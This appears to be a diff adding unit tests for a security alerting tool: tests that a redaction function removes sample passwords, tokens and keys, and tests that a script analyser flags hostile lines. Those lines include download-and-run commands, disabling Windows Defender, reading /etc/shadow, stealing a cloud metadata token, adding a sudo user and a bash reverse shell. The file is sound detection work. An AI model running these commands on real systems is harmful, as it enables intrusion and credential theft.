@@ -1,0 +1,91 @@
+import fc from 'fast-check';
+import { redact } from '../../src/alerts/redact';
+import { scriptDigest, traitsOf } from '../../src/alerts/script';
+
+test.each([
+  ['password', 'export DB_PASSWORD=Sup3r-S3cret!', 'Sup3r-S3cret!'],
+  ['password', "mysql -u root -pHunter22 -e 'select 1'", 'Hunter22'],
+  ['password', 'az login --service-principal -u x --password Xy7abc!!', 'Xy7abc!!'],
+  ['password', 'net user support P@ssw0rd1 /add', 'P@ssw0rd1'],
+  ['password', '$p = ConvertTo-SecureString "Pl4in text" -AsPlainText', 'Pl4in text'],
+  ['Azure storage key', `AccountKey=${'a'.repeat(86)}==`, 'a'.repeat(86)],
+  [
+    'Azure SAS signature',
+    'https://x.blob.core.windows.net/c?sv=1&sig=abcdefghijklmnopqrstuvwxyz0123%3D',
+    'abcdefghijklmnopqrstuvwxyz0123',
+  ],
+  ['JSON web token', 'curl -H "X: eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abcdefgh"', 'eyJzdWIiOiIxMjM0In0'],
+  ['private key', '-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----', 'MIIE'],
+  ['credentials in a URL', 'git clone https://bob:s3cr3tpw@git.contoso.example/x', 's3cr3tpw'],
+  ['GitHub token', `TOKEN ghp_${'A'.repeat(36)}`, `ghp_${'A'.repeat(36)}`],
+  ['AWS key', 'AKIAIOSFODNN7EXAMPLE', 'AKIAIOSFODNN7EXAMPLE'],
+])('%s is taken out of %j', (kind, text, secret) => {
+  const { text: out, kinds } = redact(text);
+  expect(out).not.toContain(secret);
+  expect(kinds).toContain(kind);
+});
+
+test.each([
+  'TOKEN=$(curl -s http://x)',
+  'PASSWORD=$DB_PASS',
+  'apt-get update && apt-get -y upgrade',
+  'systemctl restart nginx',
+])('%j holds no secret', (text) => {
+  expect(redact(text)).toEqual({ text, kinds: [] });
+});
+
+test('no text makes it slow or break', () => {
+  const piece = fc.constantFrom(
+    'password=',
+    'a',
+    ':',
+    '//',
+    '@',
+    '-----BEGIN PRIVATE KEY-----',
+    'eyJ',
+    '.',
+    ' ',
+    '\n',
+    '"',
+    "'",
+    '=',
+    'mysql -p',
+    'Bearer ',
+    'sig=',
+  );
+  fc.assert(
+    fc.property(fc.array(piece, { maxLength: 60 }), fc.integer({ min: 1, max: 400 }), (pieces, times) => {
+      const began = Date.now();
+      redact(pieces.join('').repeat(times));
+      return Date.now() - began < 3000;
+    }),
+    { numRuns: 60 },
+  );
+});
+
+test.each([
+  ['downloads and runs', 'curl -fsSL https://x/i.sh | bash'],
+  ['downloads and runs', 'iex (New-Object Net.WebClient).DownloadString("http://x")'],
+  ['base64 hides what it does', 'echo aGVsbG8= | base64 -d'],
+  ['disables defences', 'Set-MpPreference -DisableRealtimeMonitoring $true'],
+  ['dumps credentials', 'cat /etc/shadow'],
+  [
+    'takes a token from the metadata service',
+    'curl -H Metadata:true http://169.254.169.254/metadata/identity/oauth2/token',
+  ],
+  ['adds a user or a key', 'useradd -m -G sudo x'],
+  ['opens a reverse shell', 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1'],
+])('%s is named, with its line', (name, line) => {
+  expect(traitsOf(`#!/bin/sh\n\n${line}\n`)).toContainEqual(expect.objectContaining({ name, line: 3 }));
+});
+
+test('an everyday script has no traits', () => {
+  expect(
+    traitsOf('#!/bin/bash\nset -e\napt-get update\napt-get -y upgrade\nsystemctl restart nginx\ndf -h\n'),
+  ).toEqual([]);
+});
+
+test('the digest does not change with line ends and blank lines, but with every word', () => {
+  expect(scriptDigest('a\r\nb  \r\n\r\n')).toBe(scriptDigest('a\nb'));
+  expect(scriptDigest('a\nb')).not.toBe(scriptDigest('a\nc'));
+});
